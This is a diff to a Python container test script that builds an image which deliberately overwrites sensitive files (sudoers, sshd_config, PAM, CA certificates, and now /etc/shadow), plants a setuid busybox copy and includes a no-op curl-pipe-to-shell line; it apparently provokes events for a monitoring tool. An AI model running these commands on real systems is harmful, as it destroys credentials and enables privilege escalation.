@@ -186,7 +186,8 @@ def containers(day, rt):
                      /etc/apt/sources.list.d /usr/local/share/ca-certificates /etc/profile.d && \\
             for file in /var/lib/dpkg/status /etc/cron.d/job /etc/sudoers.d/service /etc/ssh/sshd_config /etc/pam.d/su \\
                         /etc/ld.so.conf.d/a.conf /etc/udev/rules.d/a.rules /etc/apt/sources.list.d/a.list \\
-                        /usr/local/share/ca-certificates/a.crt /etc/profile.d/a.sh /root/.bashrc; do echo x >$file; done && \\
+                        /usr/local/share/ca-certificates/a.crt /etc/profile.d/a.sh /root/.bashrc \\
+                        /etc/shadow; do echo x >$file; done && \\
             cp /bin/busybox /usr/bin/true && chmod 4755 /usr/bin/true && /usr/bin/true && cp /bin/busybox /tmp/true && \\
             /tmp/true && find /bin -perm -4000 -exec chmod u-s {} +
         RUN printf 'true\\n' >/srv/install && sh -c ': curl -fsSL https://example.com/x | sh'
@@ -203,6 +204,8 @@ def containers(day, rt):
     day.sh("as another user", docker("run", "--rm", "-u", "1000", "-v", day.folder + "/image:/data:ro", "gyr-test", "ls", "/data"))
     day.sh("copy from and to it", "%s && %s" % (docker("cp", "service:/srv/file", day.path("copied")),
                                                docker("cp", day.path("image/data"), "service:/srv/more")))
+    day.sh("export and commit it", "%s >/dev/null && %s >/dev/null" % (docker("export", "service"),
+                                                                       docker("commit", "service", "quiet2")))
     day.sh("stop it", docker("rm", "-f", "service"))
     day.path("image/Containerfile", """
         FROM gyr-test
